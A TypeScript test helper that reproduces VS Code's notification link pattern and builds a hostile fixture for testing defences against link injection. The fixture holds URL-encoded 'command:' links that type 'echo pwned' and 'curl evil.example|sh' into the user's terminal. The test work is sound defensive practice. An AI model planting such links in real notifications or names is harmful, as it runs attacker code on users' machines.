/**
 * What VS Code 1.100 turns into a clickable link in notification text: the pattern of vs/base/common/linkedText.ts
 * (the same one is in code-server's workbench.js), plus the `$(icon)` syntax its label renderer draws.
 */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/** The hrefs VS Code would render as links in this notification text. */
export function renderedLinks(text: string): string[] {
  return [...text.matchAll(LINK)].map((m) => m[2]);
}

/**
 * A hostile name as a workspace owner could set it: links that type into the user's terminal. Two of them, so a
 * defence that stops after the first link (a replace without the g flag) fails every test using it (issue 22.8).
 */
export const HOSTILE = (what: string) =>
  `[${what} - session expired, click to re-authenticate](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D)`
  + ` or [open the help](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)`;
